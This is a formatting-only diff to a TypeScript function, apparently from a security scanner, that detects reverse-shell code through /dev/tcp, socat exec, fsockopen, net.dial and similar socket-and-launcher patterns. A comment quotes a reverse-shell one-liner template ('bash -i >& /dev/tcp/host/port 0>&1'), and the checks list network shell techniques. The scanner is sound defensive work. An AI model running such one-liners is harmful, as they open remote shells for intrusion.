@@ -84,7 +84,15 @@ export function scanShells(segment: string, l: string, sink: FindingSink): void 
   const report = (start: number, end: number): void => {
     if (found) return;
     found = true;
-    sink.report('code.reverse-shell', RCE, 'critical', REVERSE, start, end, segment.slice(start, Math.min(end, start + 96)));
+    sink.report(
+      'code.reverse-shell',
+      RCE,
+      'critical',
+      REVERSE,
+      start,
+      end,
+      segment.slice(start, Math.min(end, start + 96)),
+    );
   };
   // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/…
   let at = l.indexOf('/dev/tcp/');
@@ -101,7 +109,11 @@ export function scanShells(segment: string, l: string, sink: FindingSink): void 
   // socat exec:/system: and a network address.
   if (!found) {
     at = l.indexOf('socat');
-    if (at >= 0 && (l.includes('exec:', at) || l.includes('system:', at)) && (l.includes('tcp', at) || l.includes('ssl', at))) {
+    if (
+      at >= 0 &&
+      (l.includes('exec:', at) || l.includes('system:', at)) &&
+      (l.includes('tcp', at) || l.includes('ssl', at))
+    ) {
       report(at, l.length);
     }
   }
@@ -115,8 +127,15 @@ export function scanShells(segment: string, l: string, sink: FindingSink): void 
     const s = first(l, SOCKETS);
     if (s >= 0) {
       const p = first(l, LAUNCHERS);
-      const connects = l.includes('connect') || l.includes('bind(') || l.includes('tcpclient') || l.includes('fsockopen') ||
-        l.includes('tcpsocket') || l.includes('/inet/tcp/') || l.includes('new socket(') || l.includes('net.dial(') ||
+      const connects =
+        l.includes('connect') ||
+        l.includes('bind(') ||
+        l.includes('tcpclient') ||
+        l.includes('fsockopen') ||
+        l.includes('tcpsocket') ||
+        l.includes('/inet/tcp/') ||
+        l.includes('new socket(') ||
+        l.includes('net.dial(') ||
         l.includes('stream_socket_client');
       if (p >= 0 && connects) report(Math.min(s, p), l.length);
     }
